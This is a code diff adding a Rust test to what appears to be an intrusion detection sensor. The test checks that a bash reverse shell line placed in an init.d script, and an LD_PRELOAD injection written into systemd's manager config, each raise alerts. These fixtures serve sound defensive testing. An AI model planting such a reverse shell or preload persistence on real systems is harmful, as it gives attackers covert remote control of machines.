@@ -125,6 +125,31 @@ fn a_burst_of_changes_is_told_without_putting_each_unit_together() {
 }
 
 #[test]
+fn what_scripts_and_configuration_say_counts_too() {
+    let mut machine = Machine::new();
+    machine.files.insert(
+        b"/etc/init.d/evil".to_vec(),
+        text_file("#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"),
+    );
+    machine.write(shell(), INIT_D, "evil");
+    let alert = machine.one();
+    assert_eq!(alert.unit.expect("a script").signals, ["command.reverse-shell"]);
+    assert_eq!(alert.severity, crate::detect::rule::Severity::Critical);
+
+    let conf = "/etc/systemd/system.conf";
+    machine.user(
+        kind::WATCH,
+        &Watch { watch: 70, path: conf.into(), class: Some(WatchClass::ManagerConfig), owner: None },
+    );
+    machine.files.insert(conf.into(), text_file("[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n"));
+    let close = machine.record(kind::FILE_CLOSE_WRITE, shell()).path(70, sensor_common::watch::FILE, b"x");
+    machine.feed(close.build());
+    let alert = machine.one();
+    assert_eq!(alert.rule.id, "systemd.manager-config.written");
+    assert!(!alert.unit.as_ref().expect("configuration").signals.is_empty(), "{}", reasons(&alert));
+}
+
+#[test]
 fn what_a_unit_leads_to_is_watched_from_then_on() {
     use crate::detect::follow::Follow;
 
